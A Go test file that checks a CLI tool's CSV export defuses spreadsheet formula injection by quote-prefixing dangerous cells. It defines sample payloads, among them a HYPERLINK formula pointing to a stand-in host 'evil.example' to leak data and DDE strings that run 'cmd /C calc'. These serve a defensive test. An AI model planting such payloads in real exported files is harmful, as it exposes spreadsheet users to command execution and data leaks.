package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	livempu "github.com/livempu/livempu-go"
	"github.com/livempu/livempu-go/livetest"
)

// Formula payloads, as an attacker who controls a callback URL, a stream URL
// or an error message would plant them for whoever opens the CSV in a
// spreadsheet.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?leak","click me")`
	ddeCalc   = `+cmd|' /C calc'!A0`
	minusCalc = `-2+3+cmd|' /C calc'!A0`
	atSum     = `@SUM(1+1)*cmd|' /C calc'!A0`
)

// TestCSVNeutralisesFormulas checks that CSV output prefixes with a single
// quote every cell that a spreadsheet would run as a formula (beginning
// with =, +, -, @, a tab or a carriage return), leaves numbers such as -1 as
// they are, and that NDJSON still carries the values unchanged.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	const app = "csv-app"
	task := livempu.MPUTask{
		AppID: app, ChannelID: atSum, TaskID: "-task-1", MixMode: livempu.MixModeSingle,
		StreamURL:       hyperlink,
		MultiStreamURL:  []livempu.RelayURL{{URL: "\t=1+1"}},
		SingleSubParams: livempu.SingleSubParams{UserID: "+1-555-0100"},
	}
	srv := livetest.NewServer(t)
	srv.AddTasks(task)
	ev, err := json.Marshal(livempu.MPUEvent{
		EventType: 1, MsgID: "msg-1", AppID: app, SubID: "sub-1", TaskID: "task-1", CallbackTs: srv.Now().Add(-time.Hour),
		Payload: livempu.EventPayload{DstURL: "\r=2+5", EventCode: 1, ErrorCode: -1, ErrorMessage: minusCalc, EventTs: srv.Now().Add(-time.Hour)},
	})
	if err != nil {
		t.Fatal(err)
	}
	srv.AddRecords(livempu.EventSubRecord{
		AppID: app, SubID: "sub-1", MsgID: "msg-1", CallbackURL: ddeCalc, HTTPCode: 500,
		Time: srv.Now().Add(-time.Hour), Cost: 20 * time.Millisecond, Data: string(ev),
	})

	r := runAgainst(t, srv, "tasks", "--app-id", app, "-o", "csv")
	wantCode(t, r, exitOK)
	cells := csvRow(t, r.stdout)
	for col, want := range map[string]string{
		"AppId": app, "ChannelId": "'" + atSum, "TaskId": "'-task-1", "StreamURL": "'" + hyperlink,
		"MultiStreamURL": "'\t=1+1", "SingleUserId": "'+1-555-0100", "MaxIdleTimeSeconds": "0",
	} {
		if cells[col] != want {
			t.Errorf("tasks CSV %s = %q, want %q", col, cells[col], want)
		}
	}

	r = runAgainst(t, srv, "events", "--app-id", app, "--since", "2h", "-o", "csv")
	wantCode(t, r, exitOK)
	cells = csvRow(t, r.stdout)
	for col, want := range map[string]string{
		"CallbackUrl": "'" + ddeCalc, "ErrorMessage": "'" + minusCalc, "DstUrl": "'\r=2+5",
		"ErrorCode": "-1", "HTTPCode": "500", "CostMs": "20", "Data": string(ev),
	} {
		if cells[col] != want {
			t.Errorf("events CSV %s = %q, want %q", col, cells[col], want)
		}
	}

	r = runAgainst(t, srv, "tasks", "--app-id", app)
	wantCode(t, r, exitOK)
	if got := decodeTasks(t, ndjsonLines(t, r.stdout)); len(got) != 1 || got[0].StreamURL != hyperlink || got[0].TaskID != "-task-1" {
		t.Errorf("NDJSON changed the values: %+v", got)
	}
}

// csvRow parses CSV output of a header and one row, and returns the row's
// cells by column name.
func csvRow(t *testing.T, out string) map[string]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v\n%s", err, out)
	}
	if len(rows) != 2 {
		t.Fatalf("%d CSV rows, want a header and one row:\n%s", len(rows), out)
	}
	cells := map[string]string{}
	for i, name := range rows[0] {
		cells[name] = rows[1][i]
	}
	return cells
}

// TestCSVSafeCells checks which cells csvSafe prefixes: every one beginning
// with a formula trigger, except plain decimal numbers.
func TestCSVSafeCells(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "plain": "plain", "a=b": "a=b", "'quoted": "'quoted", "12": "12", "1-2": "1-2",
		"-1": "-1", "-0.5": "-0.5", "-120": "-120",
		"-": "'-", "-.5": "'-.5", "-1.": "'-1.", "-1e5": "'-1e5", "--1": "'--1", "-1+1": "'-1+1", "- 1": "'- 1",
		"+1": "'+1", "=1": "'=1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx", "=": "'=",
	} {
		if got := csvSafe([]string{in})[0]; got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
